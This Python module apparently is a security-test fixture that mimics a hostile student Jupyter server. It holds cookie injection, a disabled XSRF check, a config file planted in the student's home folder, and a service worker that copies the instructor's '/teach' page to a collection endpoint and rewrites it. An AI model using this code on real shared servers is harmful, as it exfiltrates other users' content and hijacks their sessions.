"""A student whose own server serves hostile pages: Jupyter loads this module there, as any extension that somebody
installs for themselves. A page of it may set any cookie, and have any service worker.
"""

from pathlib import Path
from typing import Any

from tornado import web

ROOT = Path(__file__).parents[3]
PLACE = "hostile"
"""Where its pages are, below the server's address."""
CONFIGURATION = f"""import sys

sys.path.append({str(ROOT)!r})
c.ServerApp.jpserver_extensions = {{{__name__!r}: True}}
"""
WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", event => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", event => event.respondWith(answer(event.request)));

async function answer(request) {
    const real = await fetch(request);
    if (request.mode !== "navigate" || !request.url.endsWith("/teach")) return real;
    const page = await real.text();
    await fetch("told", {method: "POST", body: page});
    return new Response(`<title>of the worker</title>${page}`, {headers: {"Content-Type": "text/html"}});
}
"""
"""A service worker that tells its student what the instructor's page says, and shows what it likes in its place."""


class Hostile(web.RequestHandler):
    """A page, the service worker, and what they tell. For everybody, whoever is logged in."""

    told: list[str] = []

    def get(self, name: str) -> None:
        """The worker, what was told, or an empty page that sets each `cookie` of the query."""
        for cookie in self.get_query_arguments("cookie"):
            self.add_header("Set-Cookie", cookie)
        self.set_header("Service-Worker-Allowed", "/")
        script = name == "worker.js"
        self.set_header("Content-Type", "text/javascript" if script else "text/html")
        page = "<!doctype html><title>Look at my bot</title>"
        self.finish(WORKER if script else "\n".join(self.told) if name == "told" else page)

    def post(self, name: str) -> None:
        """Keep what a page or the worker tells."""
        self.told.append(self.request.body.decode())

    def check_xsrf_cookie(self) -> None:
        """Whatever comes is welcome."""


def _load_jupyter_server_extension(app: Any) -> None:
    app.web_app.add_handlers(".*$", [(rf"{app.base_url}{PLACE}/(.*)", Hostile)])


def write(home: Path) -> None:
    """Have the server of the student with this home folder load it."""
    folder = home / ".jupyter"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "jupyter_server_config.py").write_text(CONFIGURATION)
